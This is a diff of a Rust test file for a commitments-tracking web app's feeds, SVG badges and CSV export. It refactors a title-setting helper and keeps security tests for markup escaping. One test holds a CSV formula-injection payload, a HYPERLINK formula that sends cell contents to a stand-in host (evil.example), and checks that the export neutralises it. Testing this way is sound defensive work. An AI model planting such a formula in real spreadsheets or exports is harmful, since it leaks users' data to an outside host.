@@ -91,18 +91,6 @@ async fn newest_change(db: &store::Db) -> chrono::DateTime<chrono::Utc> {
     newest.parse().unwrap()
 }
 
-async fn set_title(db: &store::Db, slug: &str, title: &str) {
-    on_engine!(db, |pool| sqlx::query(
-        "UPDATE commitments SET title = $1 WHERE slug = $2"
-    )
-    .bind(title)
-    .bind(slug)
-    .execute(pool)
-    .await
-    .unwrap()
-    .rows_affected());
-}
-
 // ---------------------------------------------------------------- feeds
 
 /// Runs `support/check_feed.py` on a served feed: it must parse cleanly as
@@ -243,7 +231,7 @@ both_engines!(a_new_change_tops_both_feeds_with_its_markup_escaped);
 async fn a_new_change_tops_both_feeds_with_its_markup_escaped(db: store::Db) {
     let app = app(db.clone()).await;
     let slug = bilateral_slug();
-    set_title(&db, &slug, "Talks <b>&</b> more").await;
+    support::retitle_behind_the_sites_back(&db, &slug, "Talks <b>&</b> more").await;
     let id = append_status(&db, &slug, "kr", Status::Stalled, HOSTILE_NOTE).await;
 
     for path in ["/feed.atom".to_owned(), format!("/commitments/{slug}/feed.atom")] {
@@ -495,7 +483,7 @@ async fn csv_cells_that_look_like_formulas_are_neutralised(db: store::Db) {
     let app = app(db.clone()).await;
     let slug = bilateral_slug();
     let formula = r#"=HYPERLINK("https://evil.example/?"&A1,"Click me")"#;
-    set_title(&db, &slug, formula).await;
+    support::retitle_behind_the_sites_back(&db, &slug, formula).await;
     let answer = get(&app, "/export/commitments.csv").await;
     assert_eq!(answer.status, StatusCode::OK);
     let (_, rows) = read_csv(&answer);
@@ -536,7 +524,7 @@ async fn badge_shows_each_partys_status_escaped(db: store::Db) {
     assert!(svg.contains(r#"role="img""#) && svg.contains("aria-label=\"Accord: "));
     assert!(svg.contains("<title>Accord: "));
 
-    set_title(&db, &slug, "Talks <b>&</b> more").await;
+    support::retitle_behind_the_sites_back(&db, &slug, "Talks <b>&</b> more").await;
     let svg = get(&app, &format!("/commitments/{slug}/badge.svg")).await.text();
     assert!(!svg.contains("<b>"), "{svg}");
     assert!(svg.contains("Talks &lt;b&gt;&amp;&lt;/b&gt; more"), "{svg}");
@@ -616,7 +604,7 @@ both_engines!(badge_and_card_are_drawn_in_the_requests_language);
 async fn badge_and_card_are_drawn_in_the_requests_language(db: store::Db) {
     let slug = bilateral_slug();
     let (english, cards) = app_and_cards(db.clone()).await;
-    set_title(&db, &slug, "A card in two languages").await;
+    support::retitle_behind_the_sites_back(&db, &slug, "A card in two languages").await;
     let badge = get(&english, &format!("/commitments/{slug}/badge.svg")).await;
     assert_eq!(badge.status, StatusCode::OK);
     assert!(badge.text().contains(r#"xml:lang="en""#), "{}", badge.text());
